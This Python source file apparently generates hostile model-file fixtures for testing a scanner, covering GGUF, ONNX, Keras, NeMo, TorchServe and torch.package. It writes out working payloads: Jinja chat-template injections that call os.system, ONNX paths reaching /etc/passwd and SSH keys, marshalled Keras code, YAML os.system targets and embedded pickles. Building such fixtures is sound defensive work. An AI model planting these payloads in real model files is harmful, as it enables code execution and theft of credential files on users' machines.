"""Hostile files of formats that torch does not load: GGUF, ONNX, Keras, NeMo, TorchServe, packages."""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from typing import Any

from containers import COMMAND, Hostile, harm, late, records, saved, zipped

SYSTEM = "__globals__.__builtins__.__import__('os').system"
TEMPLATES = {
    "class": "{{ cycler.__init__." + SYSTEM + f"('{COMMAND}') }}}}",
    "self": "{{ self.__init__." + SYSTEM + f"('{COMMAND}') }}}}",
    "item": "{{ cycler['__init__']['__globals__'].os.system('" + COMMAND + "') }}",
    "joined": "{% set u = '_' * 2 %}{{ (cycler|attr(u ~ 'init' ~ u)|attr(u ~ 'globals' ~ u))['os']"
    f".system('{COMMAND}') }}}}",
    "escaped": "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.system('"
    + COMMAND
    + "') }}",
    "loop": "{% for f in [lipsum] %}{{ f.__globals__.os.popen('"
    + COMMAND
    + "').read() }}{% endfor %}",
    "late": "{{ bos_token }}"
    + "{# nothing #}" * 3
    + "{{ joiner.__init__."
    + SYSTEM
    + f"('{COMMAND}') }}}}",
    "filter": "{{ ['x']|map('attr', '__class__')|list }}{{ lipsum.__globals__.os.system('"
    + COMMAND
    + "') }}",
}
ODD_TEMPLATES = {
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}",
    "line": "{{ bos_token }}{% unknown %}",
    "call": "{{ messages[0].delete() }}",
    "built": "{% set u = 'a_b'[1:2] %}{% set v = u ~ u ~ 'init' ~ u ~ u %}{{ cycler[v] }}",
    "pieces": "{{ cycler['_' '_init_' '_']['_' '_globals_' '_'].os.replace('a', 'b') }}",
    "attribute": "{% set v = 'a_b'[1] * 2 ~ 'class' %}{{ ['']|map(attribute=v)|list }}",
    "unclosed": "{{ bos_token ",
}


def gguf(metadata: dict[str, str], repeated: bool = False, tail: bytes = b"") -> bytes:
    """One tensor of 32 float32, and texts."""

    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    pairs = list(metadata.items()) * (2 if repeated else 1)
    body = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs)
    table = text("w") + struct.pack("<IQIQ", 1, 32, 0, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(pairs)) + body + table
    return head + bytes(-len(head) % 32) + bytes(128) + tail


def files() -> Iterator[Hostile]:
    yield from _templates()
    yield from _onnx()
    yield from _keras()
    yield from _bundles()


def _templates() -> Iterator[Hostile]:
    for name, template in TEMPLATES.items():
        data = gguf({"general.architecture": "llama", "tokenizer.chat_template": template})
        yield Hostile(f"template-{name}.gguf", data, "GGUF", "template", "CVE-2024-34359")
    for name, template in ODD_TEMPLATES.items():
        data = gguf({"tokenizer.chat_template.tool_use": template})
        yield Hostile(f"template-{name}.gguf", data, "GGUF", "", "statements that no model has")
    template = {"tokenizer.chat_template": "{{ bos_token }}"}
    yield Hostile("twice.gguf", gguf(template, repeated=True), "GGUF", "", "a key that comes twice")
    yield Hostile("tail.gguf", gguf(template, tail=harm()), "GGUF", "", "bytes behind the tensors")
    zip_behind = gguf(template, tail=saved(harm()))
    yield Hostile("zip-behind.gguf", zip_behind, "GGUF", "", "a zip archive behind the tensors")


def varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def field(number: int, value: int | bytes | str) -> bytes:
    """One of protobuf."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def onnx(*nodes: bytes, graph: bytes = b"", model: bytes = b"") -> bytes:
    inner = b"".join(field(1, node) for node in nodes) + field(2, "g") + graph
    opset = field(8, field(1, "") + field(2, 20))
    return field(1, 9) + field(2, "pytorch") + field(7, inner) + opset + model


def node(kind: str, domain: str = "", more: bytes = b"") -> bytes:
    return field(1, "x") + field(2, "y") + field(4, kind) + more + field(7, domain)


def external(location: str) -> bytes:
    told = field(13, field(1, "location") + field(2, location))
    return field(1, 4) + field(2, 1) + field(8, "w") + told + field(14, 1)


def _onnx() -> Iterator[Hostile]:
    for name, location in {
        "up": "../../../../etc/passwd",
        "absolute": "/etc/passwd",
        "windows": "C:\\Windows\\win.ini",
        "backslash": "..\\..\\secret",
        "home": "~/.ssh/id_rsa",
    }.items():
        data = onnx(node("Relu"), graph=field(5, external(location)))
        yield Hostile(f"external-{name}.onnx", data, "ONNX", "", "CVE-2024-27318, CVE-2024-5187")
    yield Hostile(
        "custom.onnx", onnx(node("Run", "evil.ops")), "ONNX", "", "operators of a library"
    )
    python = onnx(node("PythonOp", "com.microsoft"))
    yield Hostile("python.onnx", python, "ONNX", "", "operators that call Python")
    inner = field(5, field(1, "body") + field(6, field(1, node("PyOp", "ai.onnx.contrib"))))
    yield Hostile(
        "inner.onnx", onnx(node("If", more=inner)), "ONNX", "", "operators in a graph within"
    )
    constant = field(5, field(1, "value") + field(5, external("../x")))
    hidden = onnx(node("Constant", more=constant))
    yield Hostile("constant.onnx", hidden, "ONNX", "", "a path in an attribute")
    twice = onnx(node("Relu"), model=field(7, field(1, node("Run", "evil.ops"))))
    yield Hostile("twice.onnx", twice, "ONNX", "", "two graphs, which protobuf merges")


def lambda_code() -> str:
    code = compile(f"import os; os.system({COMMAND!r})", "<lambda>", "exec")
    return base64.b64encode(marshal.dumps(code)).decode()


def keras(*layers: dict[str, Any], h5: bytes = b"\x89HDF\r\n\x1a\n" + bytes(64)) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": list(layers)}}
    return zipped(
        [
            ("metadata.json", json.dumps({"keras_version": "3.8.0"}).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", h5),
        ],
        zipfile.ZIP_STORED,
    )


def layer(kind: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def _keras() -> Iterator[Hostile]:
    code = {"class_name": "__lambda__", "config": {"code": lambda_code()}}
    for name, each, source in (
        ("lambda", layer("Lambda", name="x", function=code), "CVE-2024-3660"),
        ("lambda-inner", layer("TimeDistributed", layer=layer("Lambda", function=code)), "nested"),
        (
            "function",
            {"module": "os", "class_name": "function", "config": "system"},
            "CVE-2025-1550",
        ),
        ("subprocess", layer("run", "subprocess", args=["touch", "x"]), "CVE-2025-1550"),
        (
            "get-file",
            {"module": "keras.utils", "class_name": "function", "config": "get_file"},
            "CVE-2025-8747",
        ),
        ("torch", layer("TorchModuleWrapper", module="x"), "CVE-2025-49655"),
        ("vocabulary", layer("StringLookup", vocabulary="/etc/passwd"), "CVE-2025-12058"),
        ("saved-model", layer("TFSMLayer", filepath="/tmp/x"), "code of TensorFlow"),
    ):
        yield Hostile(f"{name}.keras", keras(each), "Keras", "", source)
    text = json.dumps(
        {"class_name": "Functional", "config": {"layers": [layer("Lambda", function=code)]}}
    )
    data = b"\x89HDF\r\n\x1a\n" + bytes(500) + text.encode() + bytes(500)
    yield Hostile("lambda.h5", data, "Keras", "", "CVE-2025-9905")


def tarred(members: dict[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _bundles() -> Iterator[Hostile]:
    config, honest = b"target: nemo.collections.asr.models.EncDecCTCModel\n", b"a: 1\n"
    for name, members, source in (
        (
            "checkpoint",
            {"model_config.yaml": config, "model_weights.ckpt": saved(harm())},
            "a pickle within",
        ),
        (
            "late",
            {"model_config.yaml": honest, "model_weights.ckpt": saved(late())},
            "a persistent id first",
        ),
        ("target", {"model_config.yaml": b"x:\n  _target_: os.system\n"}, "CVE-2025-23304"),
        (
            "quoted",
            {"model_config.yaml": b'x:\n  "_target_": "subprocess.run"\n'},
            "CVE-2025-23304",
        ),
        ("escaped", {"model_config.yaml": b'x:\n  "\\x5ftarget_": os.system\n'}, "an escaped name"),
        (
            "tag",
            {"model_config.yaml": b"x: !!python/object/apply:os.system [ls]\n"},
            "tags of YAML",
        ),
        ("up", {"model_config.yaml": honest, "../../x.py": b"x = 1"}, "a path that leads out"),
    ):
        yield Hostile(f"{name}.nemo", tarred(members), "NeMo", "", source)
    packed = tarred({"model_config.yaml": honest, "model_weights.ckpt": saved(harm())}, "w:gz")
    yield Hostile("packed.nemo", packed, "NeMo", "", "a pickle within, packed")
    manifest = json.dumps({"model": {"serializedFile": "w.pt", "handler": "h.py"}}).encode()
    for name, entries, source in (
        ("model", [("w.pt", saved(harm()))], "a pickle within"),
        ("handler", [("h.py", b"import os")], "a handler in Python"),
        ("pickle", [("index_to_name.bin", harm())], "a pickle under another name"),
    ):
        data = zipped([("MAR-INF/MANIFEST.json", manifest), *entries], zipfile.ZIP_DEFLATED)
        yield Hostile(f"{name}.mar", data, "TorchServe", "", source)
    source = "a package runs its code"
    entries = {
        ".data/extern_modules": b"os\nposix",
        "model/model.pkl": harm(),
        "mod.py": b"import os",
    }
    yield Hostile("harm.package.pt", records(entries), "torch.package", "package", source)
